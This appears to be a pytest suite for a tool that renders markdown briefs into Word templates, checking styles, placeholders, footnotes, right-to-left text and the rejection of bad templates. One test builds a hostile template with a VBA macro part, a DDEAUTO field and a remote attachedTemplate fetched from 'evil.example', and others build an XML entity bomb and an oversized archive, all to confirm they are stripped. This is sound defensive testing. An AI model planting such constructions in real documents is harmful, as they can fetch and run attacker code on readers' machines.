"""A brief poured into a house's own Word file: what stays of it, what joins it, what is refused."""

from __future__ import annotations

import functools
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import docx
import pytest
from lxml import etree

import products
import wordtemplates
from briefprint.artifact import Options, Report
from briefprint.errors import Severity
from briefprint.renderers._word import template_read
from briefprint.typesetting import carry_out
from validators import integrity, libreoffice, openxml, pandoc, poppler

W = f"{{{wordtemplates.W}}}"
CALL = products.ROOT / "content" / "poland-us-security-call.md"
BUILDERS = {
    each.__name__: each
    for each in (
        wordtemplates.plain,
        wordtemplates.corporate,
        wordtemplates.german,
        wordtemplates.landscape,
        wordtemplates.noted,
    )
}
RICH = """\
---
title: "Bread & <circuses>"
standfirst: A standfirst.
authors: [Jan Nowak]
date: 2025-04-03
number: 2025/14
marking: PUBLIC
{more}
lang: en-GB
---

## First head

A paragraph with **strong**, *slanted*, `code` and a [link](https://example.org/).[^1]

- a bullet
  - a deeper one
- another

1. one
2. two

Between.

1. one again

[^1]: A note with a [link](https://example.org/note).

## Second head

> A quotation.

| Name | Value |
|---|---:|
| a | 1 |
| b | 2 |

: A table
"""


def poured(template: Path, brief: Path = CALL, style: str = "institute") -> Report:
    return carry_out(replace(products.job(brief, style, "docx"), options=Options(template=template)))


def data(report: Report) -> bytes:
    assert report.artifact is not None, "\n".join(map(str, report.diagnostics))
    return report.artifact.data


@functools.cache
def _made(name: str, folder: Path) -> tuple[Path, Report]:
    template = BUILDERS[name](folder / f"{name}.docx")
    report = poured(template)
    product = folder / f"made-{name}.docx"
    product.write_bytes(data(report))
    return product, report


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], tuple[Path, Report]]:
    folder = tmp_path_factory.mktemp("templates")
    return lambda name: _made(name, folder)


@pytest.fixture
def rich(tmp_path: Path) -> Path:
    brief = tmp_path / "rich.md"
    brief.write_text(RICH.replace("{more}", "toc: false"), encoding="utf-8")
    return brief


def part(product: Path | bytes, name: str) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(product) if isinstance(product, bytes) else product) as archive:
        return etree.fromstring(archive.read(name))


def styles_of(product: Path) -> list[tuple[str, str]]:
    """Return each paragraph of the body with its style's name."""
    return [(each.style.name or "", each.text) for each in docx.Document(str(product)).paragraphs if each.style]


# --- sound, and the template's own ----------------------------------------------------------------------


@pytest.mark.parametrize("name", BUILDERS)
def test_what_is_made_is_a_sound_word_file(made: Callable[[str], tuple[Path, Report]], name: str) -> None:
    product, _ = made(name)
    assert openxml.validate([product]) == []
    assert integrity.validate(product) == []


@pytest.mark.parametrize("name", BUILDERS)
def test_page_head_and_foot_are_the_templates(made: Callable[[str], tuple[Path, Report]], name: str) -> None:
    product, _ = made(name)
    ours, theirs = docx.Document(str(product)), docx.Document(str(product.with_name(f"{name}.docx")))
    assert ours.sections[-1].page_width == theirs.sections[-1].page_width
    assert ours.sections[-1].page_height == theirs.sections[-1].page_height
    assert ours.sections[-1].left_margin == theirs.sections[-1].left_margin
    head = ours.sections[0].header.paragraphs[0].text
    assert (
        head.split(" {{")[0]
        == theirs.sections[0].header.paragraphs[0].text.split(" {{")[0].replace("{{marking}}", "PUBLIC")
        or "PUBLIC" in head
    )
    assert len(ours.sections) == len(theirs.sections)


def test_two_runs_make_the_same_bytes(tmp_path: Path) -> None:
    template = wordtemplates.corporate(tmp_path / "corporate.docx")
    assert data(poured(template)) == data(poured(template))


def test_the_brief_is_read_as_without_a_template(tmp_path: Path, rich: Path) -> None:
    """pandoc finds the same heads, lists, quotations, tables and notes."""
    plain = tmp_path / "plain.docx"
    plain.write_bytes(data(carry_out(products.job(rich, "institute", "docx"))))
    other = tmp_path / "poured.docx"
    other.write_bytes(data(poured(wordtemplates.plain(tmp_path / "template.docx"), rich)))

    def kinds(product: Path) -> list[str]:
        tree = json.dumps(pandoc.read(product)["blocks"])
        return re.findall(r"\"t\": ?\"(Header|BulletList|OrderedList|Note|Link)\"", tree)

    assert kinds(other) == kinds(plain)


def test_libreoffice_shows_the_letterhead_and_the_brief(made: Callable[[str], tuple[Path, Report]]) -> None:
    product, _ = made("corporate")
    text = poppler.text(libreoffice.to_pdf(product, product.parent))
    for words in (wordtemplates.LETTERHEAD, "PUBLIC", wordtemplates.LEGAL, "Guarantees reaffirmed", "What was said"):
        assert words in text, words
    assert "{{" not in text


# --- placeholders ---------------------------------------------------------------------------------------


def test_placeholders_are_filled_where_word_has_divided_them(made: Callable[[str], tuple[Path, Report]]) -> None:
    product, report = made("corporate")
    found = styles_of(product)
    assert found[0] == ("Title", "Guarantees reaffirmed, three files open")
    assert sum(style == "Title" for style, _ in found) == 1, "the cover has the title: it is not set again"
    assert found[1][1] == "Prepared by Transatlantic Desk on 2025"
    assert found[-1] == ("Normal", wordtemplates.LEGAL), "what stands behind the place stays behind the brief"
    footer = docx.Document(str(product)).sections[0].footer.paragraphs[0].text
    assert footer.endswith("2025/01")
    assert not any("marking" in each.message for each in report.diagnostics)


def test_an_unknown_placeholder_is_named(tmp_path: Path) -> None:
    made = docx.Document()
    made.add_paragraph("{{body}}")
    made.add_paragraph("{{departement}} {{title}}")
    made.save(str(tmp_path / "template.docx"))
    report = poured(tmp_path / "template.docx")
    said = [each for each in report.diagnostics if "asks for '{{departement}}'" in each.message]
    assert len(said) == 1 and said[0].severity is Severity.WARNING
    assert "{{departement}}" in etree.tostring(part(data(report), "word/document.xml"), encoding="unicode")


def test_a_template_with_text_of_its_own_and_no_place_says_that_it_is_left_out(tmp_path: Path) -> None:
    made = docx.Document()
    made.add_paragraph("Quarterly letter to the shareholders.")
    made.save(str(tmp_path / "template.docx"))
    report = poured(tmp_path / "template.docx")
    assert any("own text is left out" in each.message for each in report.diagnostics)
    assert b"shareholders" not in etree.tostring(part(data(report), "word/document.xml"))


def test_lorem_ipsum_goes_without_a_word(tmp_path: Path) -> None:
    made = docx.Document()
    made.add_paragraph("Lorem ipsum dolor sit amet.")
    made.save(str(tmp_path / "template.docx"))
    assert not any("own text" in each.message for each in poured(tmp_path / "template.docx").diagnostics)


def test_fields_of_properties_show_the_briefs_own(tmp_path: Path) -> None:
    made = docx.Document()
    field = docx.oxml.parse_xml(
        f'<w:fldSimple {docx.oxml.ns.nsdecls("w")} w:instr=" TITLE "><w:r><w:t>Old title</w:t></w:r></w:fldSimple>'
    )
    made.sections[0].header.paragraphs[0]._p.append(field)
    made.core_properties.title, made.core_properties.category = "Old title", "Letters"
    made.save(str(tmp_path / "template.docx"))
    product = tmp_path / "made.docx"
    product.write_bytes(data(poured(tmp_path / "template.docx")))
    there = docx.Document(str(product))
    assert there.core_properties.title == "Guarantees reaffirmed, three files open"
    assert there.core_properties.category == "Letters"
    header = there.sections[0].header.part.element
    assert "".join(each.text or "" for each in header.iter(f"{W}t")) == there.core_properties.title


# --- styles, lists, notes -------------------------------------------------------------------------------


def test_styles_are_found_by_their_german_names(made: Callable[[str], tuple[Path, Report]]) -> None:
    product, report = made("german")
    used = {style for style, _ in styles_of(product)}
    assert {"Überschrift 1", "Titel", "Textkörper"} <= used
    there = {each.name for each in docx.Document(str(product)).styles}
    assert "Heading 1" not in there and "Body Text" not in there
    wanting = [each.message for each in report.diagnostics if "has no style for" in each.message]
    assert len(wanting) == 1 and "'Summary'" in wanting[0] and "heading" not in wanting[0]


def test_a_style_that_joins_is_set_in_the_templates_type(made: Callable[[str], tuple[Path, Report]]) -> None:
    product, _ = made("corporate")
    styles = docx.Document(str(product)).styles
    assert styles["Definition"].font.name is None, "text takes the face of Normal"
    assert styles["Summary"].font.name == styles["Heading 1"].font.name, "what is in the headline face, that of heads"


def test_lists_are_the_templates_and_begin_anew(tmp_path: Path, rich: Path) -> None:
    product = tmp_path / "made.docx"
    product.write_bytes(data(poured(wordtemplates.plain(tmp_path / "template.docx"), rich)))
    paragraphs = [each for each in docx.Document(str(product)).paragraphs if each.style]
    bullets = [each for each in paragraphs if each.style and each.style.name == "List Bullet"]
    assert len(bullets) == 2
    listed = [each for each in paragraphs if each.style and "Bullet" in (each.style.name or "")]
    levels = [each._p.xpath("string(w:pPr/w:numPr/w:ilvl/@w:val)") for each in listed]
    assert levels == ["0", "1", "0"], "one list in another, though the template's styles are lists apart"
    numbers = [each for each in paragraphs if each.style and each.style.name == "List Number"]
    ids = [each._p.xpath("w:pPr/w:numPr/w:numId/@w:val")[0] for each in numbers]
    assert ids[0] == ids[1] != ids[2]


def test_notes_join_the_templates_own(made: Callable[[str], tuple[Path, Report]]) -> None:
    product, _ = made("noted")
    notes = part(product, "word/footnotes.xml").findall(f"{W}footnote")
    assert [each.get(f"{W}id") for each in notes] == ["-1", "0", "1", "2", "3"]
    calls = [each.get(f"{W}id") for each in part(product, "word/document.xml").iter(f"{W}footnoteReference")]
    assert calls == ["1", "2", "3"]
    names = [each.get(f"{W}name") for each in part(product, "word/document.xml").iter(f"{W}bookmarkStart")]
    assert len(names) == len(set(names)), "two bookmarks of one name"


def test_references_follow_the_numbering_of_the_template(made: Callable[[str], tuple[Path, Report]]) -> None:
    with_numbers = "".join(text for _, text in styles_of(made("noted")[0]))
    without = "".join(text for _, text in styles_of(made("landscape")[0]))
    assert "section\u00a01" in with_numbers and "section\u00a01" not in without


def test_the_contents_count_the_cover(tmp_path: Path) -> None:
    brief = tmp_path / "listed.md"
    brief.write_text(RICH.replace("{more}", "toc: true"), encoding="utf-8")
    product = data(poured(wordtemplates.corporate(tmp_path / "template.docx"), brief))
    entries = [
        each for each in part(product, "word/document.xml").iter(f"{W}p") if b"PAGEREF" in etree.tostring(each)
    ]
    assert entries and all("".join(each.itertext(f"{W}t")).endswith("2") for each in entries)


def test_notes_stay_with_the_brief_where_the_template_goes_on(tmp_path: Path, rich: Path) -> None:
    """Word sets endnotes behind all text: their head would stand alone."""
    product = data(poured(wordtemplates.corporate(tmp_path / "template.docx"), rich, "newsroom"))
    assert len(part(product, "word/footnotes.xml").findall(f"{W}footnote")) == 3


def test_a_draft_says_so_across_the_templates_pages(tmp_path: Path) -> None:
    brief = tmp_path / "draft.md"
    brief.write_text(RICH.replace("{more}", "status: draft"), encoding="utf-8")
    product = tmp_path / "made.docx"
    product.write_bytes(data(poured(wordtemplates.landscape(tmp_path / "template.docx"), brief)))
    header = docx.Document(str(product)).sections[0].header.part.element
    assert b"WaterMark" in etree.tostring(header)
    assert openxml.validate([product]) == []


def test_a_style_file_names_its_template(tmp_path: Path) -> None:
    folder = tmp_path / "styles" / "house"
    folder.mkdir(parents=True)
    wordtemplates.corporate(folder / "letter.docx")
    text = 'extends = "institute"\nlabel = "House"\n[stationery]\ntemplate = "letter.docx"\n'
    (folder / "style.toml").write_text(text, encoding="utf-8")
    job = replace(products.job(CALL, "house", "docx"), style_dirs=(tmp_path / "styles",))
    product = tmp_path / "made.docx"
    product.write_bytes(data(carry_out(job)))
    assert wordtemplates.LETTERHEAD in docx.Document(str(product)).sections[0].header.paragraphs[0].text


# --- what is no template --------------------------------------------------------------------------------


def fault(template: Path) -> str:
    report = poured(template)
    assert report.artifact is None and len(report.diagnostics) == 1
    assert "fault of briefprint" not in (report.diagnostics[0].hint or "")
    return report.diagnostics[0].message


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "no Word file"),
        (b"PK\x03\x04 and no more", "no Word file"),
        (bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600), "old Word file"),
        (bytes.fromhex("D0CF11E0A1B11AE1") + "EncryptedPackage".encode("utf-16-le"), "under a password"),
    ],
)
def test_what_is_no_word_file_is_refused_in_one_message(tmp_path: Path, content: bytes, said: str) -> None:
    template = tmp_path / "template.docx"
    template.write_bytes(content)
    assert said in fault(template)


def test_a_file_that_is_not_there_is_one_message(tmp_path: Path) -> None:
    assert "cannot be read" in fault(tmp_path / "nowhere.docx")
    assert "folder" in fault(tmp_path)


def test_a_document_type_is_refused(tmp_path: Path) -> None:
    def bomb(name: str, held: bytes) -> bytes:
        if name != "word/document.xml":
            return held
        return b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + held.split(b"?>", 1)[1]

    assert "document type" in fault(wordtemplates.rewritten(wordtemplates.plain(tmp_path / "t.docx"), bomb))


def test_a_file_that_unpacks_without_end_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    template = wordtemplates.plain(tmp_path / "t.docx")
    wordtemplates.rewritten(template, lambda _, held: held, {"word/media/zeros.bin": bytes(2 * 2**20)})
    monkeypatch.setattr(template_read, "MOST_UNPACKED", 2**20)
    assert "unpacks to more than" in fault(template)


def test_macros_and_what_lies_elsewhere_are_left_out_and_named(tmp_path: Path) -> None:
    """No template fetches another (attachedTemplate), shows a picture from elsewhere, or runs anything."""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    template = wordtemplates.corporate(tmp_path / "t.docx")

    def hostile(name: str, held: bytes) -> bytes:
        if name == "[Content_Types].xml":
            held = held.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
            vba = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            return held.replace(b"</Types>", vba)
        if name == "word/_rels/document.xml.rels":
            relation = (
                '<Relationship Id="rId901" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                'Target="vbaProject.bin"/></Relationships>'
            )
            return held.replace(b"</Relationships>", relation.encode())
        if name == "word/document.xml":
            code = b'<w:p><w:fldSimple w:instr=" DDEAUTO c:\\x "><w:r><w:t>ran</w:t></w:r></w:fldSimple></w:p>'
            return held.replace(b"<w:body>", b"<w:body>" + code)
        if name == "word/settings.xml":
            return held.replace(
                b"<w:zoom", f'<w:attachedTemplate xmlns:r="{relations}" r:id="rId1"/><w:zoom'.encode(), 1
            )
        return held

    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{relations}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    more = {"word/vbaProject.bin": b"macros", "word/_rels/settings.xml.rels": rels.encode()}
    wordtemplates.rewritten(template, hostile, more)
    report = poured(template)
    product = data(report)
    with zipfile.ZipFile(io.BytesIO(product)) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
        assert "word/vbaProject.bin" not in archive.namelist()
    assert b"evil.example" not in whole and b"DDEAUTO" not in whole and b"macroEnabled" not in whole
    said = " ".join(each.message for each in report.diagnostics)
    assert "macros" in said and "DDEAUTO fields" in said and "'http://evil.example/x.dotm'" in said


# --- pages and copy that are turned ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["corporate", "german"])
@pytest.mark.parametrize("brief", sorted((products.ROOT / "tests/rtl").glob("*.md")), ids=lambda path: path.stem)
def test_copy_from_right_to_left_turns_round_in_a_template(name: str, brief: Path, tmp_path: Path) -> None:
    template = BUILDERS[name](tmp_path / "t.docx")
    body = part(data(poured(template, brief)), "word/document.xml")
    told = ((each, "".join(each.itertext())) for each in body.iter(f"{W}p"))
    ours = [each for each, words in told if any("\u0590" < sign < "\u0700" for sign in words)]
    turned = [each.find(f"{W}pPr/{W}bidi") is not None for each in ours]
    assert (
        len(turned) > 20 and sum(turned) >= len(turned) - 3
    )  # but for what the template's own text says of the brief
    margins = [dict(each.attrib) for each in body.iter(f"{W}pgMar")]
    assert all(each == margins[0] for each in margins)


@pytest.mark.slow
def test_a_template_that_lies_turns_no_page(tmp_path: Path) -> None:
    template = BUILDERS["landscape"](tmp_path / "t.docx")
    body = part(data(poured(template, products.ROOT / "tests/traps/table-turned.md")), "word/document.xml")
    assert len(list(body.iter(f"{W}sectPr"))) == 1


def test_a_caption_is_kept_with_its_table_in_a_template(tmp_path: Path, rich: Path) -> None:
    template = BUILDERS["corporate"](tmp_path / "t.docx")
    body = part(data(poured(template, rich)), "word/document.xml")
    (caption,) = [each for each in body.iter(f"{W}p") if "".join(each.itertext()).endswith("A table")]
    assert caption.find(f"{W}pPr/{W}keepNext") is not None
